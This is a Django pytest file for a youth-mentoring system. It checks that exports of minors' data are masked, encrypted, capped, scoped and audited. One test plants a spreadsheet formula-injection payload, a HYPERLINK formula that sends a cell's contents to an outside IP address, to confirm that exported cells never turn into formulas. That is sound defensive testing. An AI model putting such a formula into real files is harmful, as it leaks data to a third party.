"""Minors' lists as files (issue 14 §5; SECURITY DATA-1, DATA-2, AUD-2): each test opens the file a user
would get and searches it for the real names, ID numbers, birth dates, phones and addresses.

- The masked list is masked for every role, station users included.
- The named list is made only on its page: a reason from the list with details, filters, a row cap, ID
  numbers masked unless the reason needs them, exporter/time/reason on every sheet, an encrypted file whose
  one-time password is shown once, and an audit entry without names.
"""

import io
import re
import zipfile
from datetime import date, datetime

import msoffcrypto
import pytest
from django.urls import reverse
from openpyxl import load_workbook

from mentoring.tests.factories import GuardianFactory, YouthFactory
from stations import idnumbers
from stations.models import AuditEntry, ExportJob

EXPORT = reverse("mentoring:youth-export")
DONE = reverse("mentoring:youth-export-done")
MASKED = reverse("stations:export-download", args=["mentoring-youth-masked"])
SURNAMES = "赵钱孙李周吴郑王冯陈褚卫蒋"
DETAILS = "半年督查抽查甲站帮教档案落实情况"


def _youth(station, n: int, **extra):
    born = date(2009, 1 + n % 12, 1 + n % 28)
    number = idnumbers.make("230102", born, 100 + n)
    youth = YouthFactory(
        workstation=station,
        name=f"{SURNAMES[n % len(SURNAMES)]}真名{n}",
        id_number=number,
        id_hash=idnumbers.lookup_hash(number),
        birth_date=born,
        home_area=f"南岗区真实社区{n}号楼",
        **extra,
    )
    GuardianFactory(youth=youth, name=f"监护人真名{n}", phone=f"1390000{n:04d}")
    return youth


@pytest.fixture
def youth(world):
    """13 cases in station A (the issue's 13 of 13), 2 in station B of the other city."""
    cases = [_youth(world.a.station, n) for n in range(13)]
    cases[0].stage, cases[0].risk_level = "intake", "high"
    cases[0].save()
    others = [_youth(world.b.station, 20 + n) for n in range(2)]
    return {"a": cases, "b": others}


def secrets_of(youth) -> dict[str, str]:
    """Every identifying value of a youth, in the forms a file could hold them."""
    guardian = youth.guardians.first()
    born = youth.birth_date
    return {
        "name": youth.name,
        "given name": youth.name[1:],
        "id": youth.id_number,
        "birth date": born.isoformat(),
        "birth digits": born.strftime("%Y%m%d"),
        "birth cn": f"{born.year}年{born.month}月{born.day}日",
        "guardian": guardian.name,
        "phone": guardian.phone,
        "address": youth.home_area,
    }


def xlsx_text(content: bytes) -> str:
    """Every cell (dates as ISO dates) and every raw XML part of the workbook."""
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                if value is None:
                    continue
                cells.append(value.date().isoformat() if isinstance(value, datetime) else str(value))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        raw = [archive.read(name).decode("utf-8", errors="replace") for name in archive.namelist()]
    return "\n".join(cells + raw)


def decrypt(content: bytes, password: str) -> bytes:
    office = msoffcrypto.OfficeFile(io.BytesIO(content))
    office.load_key(password=password, verify_password=True)
    out = io.BytesIO()
    office.decrypt(out)
    return out.getvalue()


def data_rows(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[-1]
    rows = list(sheet.iter_rows(values_only=True))
    header = next(i for i, row in enumerate(rows) if row and row[0] == "编号")
    return rows[header + 1 :]


def field_errors(html: str, field: str) -> list[str]:
    return re.findall(rf'data-field="{field}">([^<]*)<', html)


def named_export(client, **data):
    """Post the export form; on success follow to the page, read the password once and download the file."""
    data = {"reason_code": "inspection", "reason": DETAILS, **data}
    response = client.post(EXPORT, data)
    if response.status_code != 302:
        return response, None, None
    assert response["Location"] == DONE
    page = client.get(DONE).content.decode()
    password = re.search(r'data-testid="export-password">([A-Z0-9]+)<', page).group(1)
    job = ExportJob.objects.latest("pk")
    assert reverse("reports:job-download", args=[job.pk]) in page
    download = client.get(reverse("reports:job-download", args=[job.pk]))
    assert download.status_code == 200
    return response, password, b"".join(download.streaming_content)


# --- the masked list -----------------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["staff", "head", "county"])
def test_masked_list_holds_no_real_name_id_birth_date_phone_or_address_for_any_role(world, client_as, youth, role):
    response = client_as(world.user(role)).get(MASKED)
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxmlformats")
    text = xlsx_text(response.content)
    for case in youth["a"] + youth["b"]:
        for kind, value in secrets_of(case).items():
            assert value not in text, f"{kind} {value} in the masked list downloaded by {role}"
    rows = data_rows(response.content)
    assert len(rows) == 13  # every case of station A, none of station B
    assert {row[1] for row in rows} == {f"{c.name[0]}某" for c in youth["a"]}


# --- the named list: reason, filters, cap ---------------------------------------------------------------


def test_export_page_offers_the_named_export_reasons_only(world, client_as):
    page = client_as(world.user("county")).get(EXPORT).content.decode()
    for label in ("督查核查", "统计数据核对", "帮教工作交接", "案件办理需要"):
        assert label in page
    for label in ("家庭走访准备", "法定查询程序"):
        assert label not in page
    assert "每次最多 200 人" in page


@pytest.mark.parametrize(
    ("data", "field", "message"),
    [
        ({"reason": "abcd"}, "reason", "至少 10 个字"),
        ({"reason": "核对一下"}, "reason", "至少 10 个字"),
        ({"reason_code": "legal_query"}, "reason_code", "有效的选项"),  # sealed records only
        ({"reason_code": "home_visit"}, "reason_code", "有效的选项"),  # full file only
        ({"reason_code": ""}, "reason_code", "这个字段是必填项"),
    ],
)
def test_an_unlisted_or_short_reason_exports_nothing(world, client_as, youth, data, field, message):
    response, password, _ = named_export(client_as(world.user("county")), workstation=world.a.station.pk, **data)
    html = response.content.decode()
    assert response.status_code == 200 and password is None
    assert any(message in error for error in field_errors(html, field)), field_errors(html, field)
    assert not ExportJob.objects.exists()
    assert not AuditEntry.objects.filter(action__startswith="export.").exists()
    assert all(case.name not in html for case in youth["a"])


def test_county_must_choose_one_of_its_stations(world, client_as, youth):
    client = client_as(world.user("county"))
    response, _, _ = named_export(client)
    assert any("这个字段是必填项" in e for e in field_errors(response.content.decode(), "workstation"))
    response, _, _ = named_export(client, workstation=world.b.station.pk)  # another city's station
    assert field_errors(response.content.decode(), "workstation")
    assert not ExportJob.objects.exists()


def test_filters_narrow_the_list_and_are_named_on_the_cover(world, client_as, youth):
    client = client_as(world.user("county"))
    _, password, content = named_export(client, workstation=world.a.station.pk, stage="intake", risk="high")
    plain = decrypt(content, password)
    rows = data_rows(plain)
    assert [row[1] for row in rows] == [youth["a"][0].name]
    cover = [row for row in load_workbook(io.BytesIO(plain))["说明"].iter_rows(values_only=True)]
    assert ("筛选：阶段", "接收") in cover and ("筛选：风险", "高") in cover
    assert ("筛选：工作站", world.a.station.name) in cover


def test_a_selection_above_the_cap_is_refused_and_a_narrower_one_exports(world, client_as, youth, settings):
    settings.NAMED_EXPORT_MAX_ROWS = 12
    client = client_as(world.user("county"))
    response, password, _ = named_export(client, workstation=world.a.station.pk)
    assert password is None
    assert "符合条件的有 13 人，超过单次导出上限 12 人" in response.content.decode()
    assert not ExportJob.objects.exists() and not AuditEntry.objects.filter(action="export.named").exists()
    cases = ",".join(str(c.pk) for c in youth["a"][:12])
    _, password, content = named_export(client, workstation=world.a.station.pk, cases=cases)
    assert len(data_rows(decrypt(content, password))) == 12


def test_case_numbers_outside_the_scope_are_refused_without_saying_why(world, client_as, youth):
    client = client_as(world.user("county"))
    foreign = youth["b"][0].pk
    response, _, _ = named_export(client, workstation=world.a.station.pk, cases=f"{youth['a'][1].pk}, {foreign}")
    errors = field_errors(response.content.decode(), "cases")
    assert errors and str(foreign) in errors[0] and youth["b"][0].name not in response.content.decode()
    response, _, _ = named_export(client, workstation=world.a.station.pk, cases="12a")
    assert any("只能是数字" in e for e in field_errors(response.content.decode(), "cases"))


# --- the named list: the file ---------------------------------------------------------------------------


def test_named_list_is_encrypted_and_opens_only_with_the_shown_password(world, client_as, youth):
    county = world.user("county")
    _, password, content = named_export(client_as(county), workstation=world.a.station.pk)
    assert len(password) == 16
    for case in youth["a"]:
        assert case.name.encode() not in content and case.name.encode("utf-16-le") not in content
    with pytest.raises(zipfile.BadZipFile):
        load_workbook(io.BytesIO(content))  # not a workbook without the password
    with pytest.raises(msoffcrypto.exceptions.InvalidKeyError):
        decrypt(content, "WRONGPASSWORD234")
    plain = decrypt(content, password)
    rows = data_rows(plain)
    assert sorted(row[1] for row in rows) == sorted(c.name for c in youth["a"])
    text = xlsx_text(plain)
    for case in youth["a"]:
        secrets = secrets_of(case)
        for kind in ("id", "birth date", "birth digits", "birth cn", "guardian", "phone", "address"):
            assert secrets[kind] not in text, f"{kind} in the named list for an inspection"
        masked = case.id_number[:6] + "********" + case.id_number[-4:]
        assert masked in text
    for case in youth["b"]:
        assert case.name not in text


def test_every_sheet_starts_with_exporter_time_and_reason(world, client_as, youth):
    county = world.user("county")
    _, password, content = named_export(client_as(county), workstation=world.a.station.pk, reason_code="handover")
    book = load_workbook(io.BytesIO(decrypt(content, password)))
    assert len(book.worksheets) >= 2
    for sheet in book.worksheets:
        text = "\n".join(str(v) for row in sheet.iter_rows(values_only=True) for v in row if v is not None)
        assert county.username in text, sheet.title
        assert f"帮教工作交接：{DETAILS}" in text, sheet.title
        assert re.search(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}", text), sheet.title
    data = book.worksheets[-1]
    first = [row[0] for row in data.iter_rows(min_row=1, max_row=3, values_only=True)]
    assert first[0].startswith("导出人：") and first[1].startswith("导出时间：") and first[2].startswith("导出事由：")


def test_case_handling_exports_full_id_numbers_of_the_named_cases_only(world, client_as, youth):
    client = client_as(world.user("county"))
    response, password, _ = named_export(client, workstation=world.a.station.pk, reason_code="case_handling")
    assert password is None
    assert any("请填写所涉案件编号" in e for e in field_errors(response.content.decode(), "cases"))
    wanted = youth["a"][3:5]
    cases = " ".join(str(c.pk) for c in wanted)
    station = world.a.station.pk
    _, password, content = named_export(client, workstation=station, reason_code="case_handling", cases=cases)
    text = xlsx_text(decrypt(content, password))
    assert all(c.id_number in text for c in wanted)
    assert all(c.name not in text and c.id_number not in text for c in youth["a"] if c not in wanted)


def test_password_is_shown_once_and_never_stored(world, client_as, youth):
    client = client_as(world.user("county"))
    _, password, content = named_export(client, workstation=world.a.station.pk)
    again = client.get(DONE).content.decode()
    assert password not in again and 'data-testid="password-gone"' in again
    assert 'data-testid="export-password"' not in again
    job = ExportJob.objects.get()
    assert password not in str(job.params) + job.title + job.filename
    assert all(password not in f"{e.changes} {e.reason} {e.object_repr}" for e in AuditEntry.objects.all())
    assert password not in str(dict(client.session))
    client.get(reverse("reports:job-download", args=[job.pk]))  # the file stays downloadable, still encrypted
    assert decrypt(content, password)


def test_named_export_is_audited_with_rows_filters_and_reason_code_but_no_names(world, client_as, youth):
    county = world.user("county")
    named_export(client_as(county), workstation=world.a.station.pk, stage="active", reason_code="statistics_check")
    entry = AuditEntry.objects.get(action="export.named")
    job = ExportJob.objects.get()
    assert entry.actor == county and entry.changes["rows"] == 12 == job.row_count
    assert entry.changes["reason_code"] == "statistics_check" and entry.changes["id_numbers"] == "masked"
    assert entry.changes["filters"] == {"workstation": world.a.station.pk, "stage": "active"}
    assert entry.reason == f"统计数据核对：{DETAILS}"
    logged = " ".join(f"{e.changes} {e.reason} {e.object_repr}" for e in AuditEntry.objects.all())
    for case in youth["a"]:
        assert case.name not in logged and case.id_number not in logged and case.name[1:] not in logged
    assert AuditEntry.objects.filter(action="export.download", object_id=str(job.pk)).count() == 1


def test_station_user_exports_the_own_stations_named_list(world, client_as, youth):
    sealed = _youth(world.a.station, 40, is_sealed=True, sealed_on=date(2025, 1, 1), seal_ground="刑诉法286条")
    _, password, content = named_export(client_as(world.user("staff")), reason_code="handover")
    text = xlsx_text(decrypt(content, password))
    assert all(c.name in text for c in youth["a"])
    assert all(c.name not in text for c in youth["b"]) and sealed.name not in text
    assert all(c.id_number not in text for c in youth["a"])


def test_the_named_list_is_made_nowhere_else(world, client_as, youth):
    client = client_as(world.user("county"))
    query = {"reason_code": "inspection", "reason": DETAILS, "workstation": world.a.station.pk}
    response = client.get(reverse("stations:export-download", args=["mentoring-youth-named"]), query)
    assert response.status_code == 302 and response["Location"] == EXPORT
    client.post(reverse("reports:job-start", kwargs={"slug": "mentoring-youth-named"}), query)
    assert not ExportJob.objects.exists()
    assert not AuditEntry.objects.filter(action__startswith="export.").exists()


def test_another_users_named_list_is_404(world, client_as, youth):
    named_export(client_as(world.user("county")), workstation=world.a.station.pk)
    job = ExportJob.objects.get()
    assert client_as(world.user("staff")).get(reverse("reports:job-download", args=[job.pk])).status_code == 404
    assert client_as(world.user("city")).get(reverse("reports:job-download", args=[job.pk])).status_code == 403


def test_named_list_cells_never_become_formulas(world, client_as):
    hostile = '=HYPERLINK("http://10.0.0.9/?"&A1,"x")'
    YouthFactory(workstation=world.a.station, name=hostile)
    _, password, content = named_export(client_as(world.user("head")), reason_code="handover")
    book = load_workbook(io.BytesIO(decrypt(content, password)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert hostile in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_the_list_pages_filters_carry_over_to_the_export_page(world, client_as, youth):
    client = client_as(world.user("county"))
    query = f"?workstation={world.a.station.pk}&stage=intake"
    listing = client.get(reverse("mentoring:youth-list") + query).content.decode()
    assert f'href="{EXPORT}{query.replace("&", "&amp;")}"' in listing
    page = client.get(EXPORT + query).content.decode()
    assert f'<option value="{world.a.station.pk}" selected>' in page and '<option value="intake" selected>' in page
    assert not ExportJob.objects.exists()


def test_a_failure_after_the_file_is_written_leaves_no_file_and_no_job(world, youth, settings, tmp_path, monkeypatch):
    from mentoring import exports

    settings.MEDIA_ROOT = str(tmp_path)

    def broken_audit(**kwargs):
        raise RuntimeError("audit log unavailable")

    monkeypatch.setattr(exports, "audit", broken_audit)
    with pytest.raises(RuntimeError):
        exports.named_export_create(
            actor=world.user("county"),
            filters={"workstation": world.a.station},
            reason_code="inspection",
            reason=DETAILS,
        )
    assert not ExportJob.objects.exists()
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []
